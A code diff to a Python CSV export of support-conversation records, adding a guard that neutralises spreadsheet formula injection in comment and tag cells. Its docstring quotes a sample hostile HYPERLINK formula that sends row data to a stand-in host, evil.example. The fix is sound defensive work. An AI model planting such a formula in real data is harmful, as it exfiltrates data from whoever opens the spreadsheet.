@@ -279,9 +279,27 @@ def _indent(text: str) -> str:
 # ---------------------------------------------------------------- the writer
 
 
+#: what a spreadsheet program reads as the start of a formula (OWASP "CSV injection")
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def _text_cell(text: str) -> str:
+    """A free-text cell (the customer's rating comment, tags) as a spreadsheet shows it.
+
+    Excel and LibreOffice run a cell that starts like a formula: a customer's comment
+    ``=HYPERLINK("https://evil.example/?"&A2, "details")`` would become a live link that
+    sends the row to another host when the operator clicks it, and DDE formulas can run
+    programs. A leading apostrophe makes the program show the text as text; the JSON,
+    JSONL, Markdown and text exports keep it exactly as written. Full-width forms are
+    included because some spreadsheet locales accept them as operators.
+    """
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def csv_row(record: ConversationRecord) -> list[str]:
     """One conversation as a spreadsheet row (CSV_COLUMNS): seconds with one decimal; the
-    owner is the person who has it, else who answers ("bot" or "queue")."""
+    owner is the person who has it, else who answers ("bot" or "queue"); free text can
+    never be a formula (:func:`_text_cell`)."""
     resolution = (
         f"{(record.resolved_at - record.created_at).total_seconds():.1f}" if record.resolved_at else ""
     )
@@ -297,9 +315,9 @@ def csv_row(record: ConversationRecord) -> list[str]:
         resolution,
         record.handoff_reason or "",
         "" if record.rating is None else str(record.rating),
-        record.rating_comment or "",
+        _text_cell(record.rating_comment or ""),
         str(len(record.messages)),
-        ", ".join(record.tags),
+        _text_cell(", ".join(record.tags)),
     ]
 
 
